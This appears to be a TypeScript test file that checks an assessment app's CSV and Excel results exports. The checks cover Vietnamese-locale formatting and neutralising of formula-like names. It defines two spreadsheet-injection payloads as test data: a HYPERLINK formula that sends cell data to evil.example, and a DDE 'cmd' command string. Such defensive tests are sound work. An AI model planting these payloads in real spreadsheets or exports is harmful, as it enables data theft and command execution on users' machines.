import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { buildUnit, buildUser } from '../../test/builders.ts';
import { buildPublishedAssessment } from '../../test/assessment-builders.ts';
import { createTestEnv, describeEachDialect, login, type Session, type TestEnv } from '../../test/harness.ts';
import { findRootUnit } from '../units/repository.ts';

const EVIL_UNIT = '=HYPERLINK("https://evil.example/?d="&B2,"Bấm để xem")';
const EVIL_NAME = "-2+3+cmd|' /C calc'!A0";

/** RFC 4180 fields of one CSV text (quoted fields with "" escapes, CRLF lines). */
function parseCsv(text: string, separator = ';'): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === separator) {
      row.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += c;
  }
  return rows;
}

describeEachDialect('results report files', (dialect) => {
  let env: TestEnv;
  let organizer: Session;
  let assessmentId: number;
  const submittedCorrect = 7;
  let storedScore: number;

  beforeAll(async () => {
    env = await createTestEnv(dialect);
    const root = (await findRootUnit(env.ctx.db))!;
    const unit = await buildUnit(env.ctx, { name: EVIL_UNIT });
    const o = await buildUser(env.ctx, { unit: root, roles: [{ role: 'organizer', unit: root }] });
    organizer = await login(env.app, o.username, o.password);
    const p = await buildUser(env.ctx, { unit, fullName: EVIL_NAME });
    const participant = await login(env.app, p.username, p.password);
    // 15 questions, 7 right: a score of 4.67, so the CSV has a decimal to write.
    assessmentId = (
      await buildPublishedAssessment(env.ctx, {
        targets: [unit],
        shuffleQuestions: false,
        shuffleOptions: false,
        questionCount: 15,
        selection: { mode: 'rules', rules: [{ topicId: null, difficulty: null, count: 15 }] },
      })
    ).id;
    const key = (
      await env.ctx.db
        .selectFrom('assessment_questions')
        .select('correct_index')
        .where('assessment_id', '=', assessmentId)
        .orderBy('ordinal')
        .execute()
    ).map((k) => k.correct_index);
    const attemptId = (await participant.request('POST', `/api/my/assessments/${assessmentId}/start`)).json().attemptId;
    const answers = key.map((k, position) => ({
      position,
      flagged: false,
      seq: position + 1,
      base: 0,
      choice: position < submittedCorrect ? k : (k + 1) % 4,
    }));
    const submit = await participant.request('POST', `/api/attempts/${attemptId}/submit`, {
      clientId: 'x',
      deviceId: 'device-x',
      kind: 'participant',
      answers,
    });
    expect(submit.statusCode, submit.body).toBe(200);
    storedScore = (await env.ctx.db.selectFrom('attempts').select('score').where('id', '=', attemptId).executeTakeFirstOrThrow()).score!;
    expect(storedScore % 1).not.toBe(0);
  });
  afterAll(async () => env.close());

  it('writes the CSV a Vietnamese-locale Excel opens in columns: BOM, ";", decimal comma, CRLF; formula-like names as text', async () => {
    const res = await organizer.request('GET', `/api/assessments/${assessmentId}/report?format=csv`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/\.csv"/);
    const bytes = res.rawPayload;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = bytes.subarray(3).toString('utf8');
    expect(text.split('\r\n')[0]).toBe('STT;Họ và tên;Đơn vị;Chức vụ;Mã đề;Số câu đúng;Điểm;Xếp loại;Thời điểm nộp');
    expect(text.endsWith('\r\n')).toBe(true);
    expect(text.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
    const rows = parseCsv(text);
    expect(rows).toHaveLength(2);
    const [stt, name, unit, , , correct, score] = rows[1];
    expect(unit).toBe(`'${EVIL_UNIT}`);
    expect(name).toBe(`'${EVIL_NAME}`);
    expect(stt).toBe('1');
    expect(correct).toBe(String(submittedCorrect));
    expect(score).toMatch(/^\d+,\d+$/);
    expect(score.replace(',', '.')).toBe(String(storedScore));
  });

  it('keeps the "," / "." CSV for other tools (format=csv-intl), the same rows', async () => {
    const res = await organizer.request('GET', `/api/assessments/${assessmentId}/report?format=csv-intl`);
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-disposition']).toMatch(/\.csv"/);
    expect([...res.rawPayload.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = res.rawPayload.subarray(3).toString('utf8');
    expect(text.split('\r\n')[0]).toBe('STT,Họ và tên,Đơn vị,Chức vụ,Mã đề,Số câu đúng,Điểm,Xếp loại,Thời điểm nộp');
    const rows = parseCsv(text, ',');
    expect(rows[1][2]).toBe(`'${EVIL_UNIT}`);
    expect(rows[1][6]).toBe(String(storedScore));
  });

  it('writes the same names as string cells, never formulas, in the workbook', async () => {
    const res = await organizer.request('GET', `/api/assessments/${assessmentId}/report?format=xlsx`);
    expect(res.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const found: ExcelJS.Cell[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (cell.value === EVIL_UNIT || cell.value === EVIL_NAME) found.push(cell);
        }),
      ),
    );
    expect(found.length).toBeGreaterThanOrEqual(2);
    for (const cell of found) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
    // And at the XML level: no sheet holds a formula element at all.
    const zip = await JSZip.loadAsync(res.rawPayload);
    const sheets = Object.keys(zip.files).filter((f) => /^xl\/worksheets\/sheet\d+\.xml$/.test(f));
    expect(sheets.length).toBeGreaterThan(0);
    for (const f of sheets) expect(await zip.file(f)!.async('string')).not.toMatch(/<f[ >]/);
  });
});
